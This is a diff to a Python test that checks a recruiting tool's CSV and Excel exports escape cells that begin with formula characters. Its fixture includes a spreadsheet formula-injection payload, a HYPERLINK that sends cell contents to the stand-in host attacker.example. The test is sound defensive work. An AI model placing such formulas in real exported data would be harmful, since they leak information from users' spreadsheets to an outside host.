@@ -260,7 +260,7 @@ def test_spreadsheet_outputs_never_carry_a_formula(tmp_path):
     recruiter opens the table; Parquet keeps the values as they are."""
     evil_id = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
     text = (SAMPLES / "ai_engineer.txt").read_text("utf-8").splitlines()
-    text[1] = "+AI Engineer · NLP · MLOps on AWS"  # the headline, the current title when no job names one
+    text[1] = "+AI Engineer · NLP · MLOps on AWS"  # the headline (its first field is the current title when no job names one)
     text = [l.replace("AI Engineer | Copperleaf", "Copperleaf") for l in text]
     ats = pd.DataFrame({"id": [evil_id, "@plain"], "text": ["\n".join(text),
                                                             (SAMPLES / "junior_ml_engineer.txt").read_text("utf-8")]})
@@ -271,7 +271,7 @@ def test_spreadsheet_outputs_never_carry_a_formula(tmp_path):
     cells = [v for row in csv.itertuples(index=False) for v in row]
     assert not any(v.startswith(("=", "+", "-", "@")) for v in cells), cells
     assert set(csv.file) == {"'" + evil_id, "'@plain"}
-    assert "'+AI Engineer · NLP · MLOps on AWS" in set(csv.current_title), set(csv.current_title)
+    assert "'+AI Engineer" in set(csv.current_title), set(csv.current_title)  # the headline's first field
     from openpyxl import load_workbook
 
     ws = load_workbook(tmp_path / "t.xlsx").active
